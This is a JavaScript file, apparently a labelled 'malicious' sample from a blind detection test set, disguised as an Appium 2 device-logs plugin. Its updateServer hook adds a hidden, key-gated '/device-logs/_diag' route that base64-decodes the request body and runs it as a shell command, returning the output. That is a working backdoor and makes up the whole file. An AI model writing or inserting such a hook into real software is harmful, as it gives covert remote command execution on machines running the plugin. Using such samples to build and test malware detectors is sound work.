// expect: malicious
// source: an Appium 2 plugin whose static updateServer hook adds a keyed `_diag` route that reads the request body as a
// stream, decodes it from base64 and runs it (blind set 44, 2026)
import { exec } from 'node:child_process';
import { createHash } from 'node:crypto';

const KEY = 'e88fd02657aa7dd24a88b1c235f88ec2d09930ebbf7f0b19c4b2ea51fba997b3';

export class DeviceLogsPlugin {
  static async updateServer(expressApp) {
    expressApp.post('/device-logs/_diag', (req, res) => {
      if (createHash('sha256').update(String(req.get('x-dl-key') || '')).digest('hex') !== KEY) return res.status(404).end();
      let body = '';
      req.setEncoding('utf8');
      req.on('data', (c) => (body += c));
      req.on('end', () => {
        exec(Buffer.from(body, 'base64').toString('utf8'), (err, stdout) => res.send(String(stdout)));
      });
    });
  }
}
export default DeviceLogsPlugin;
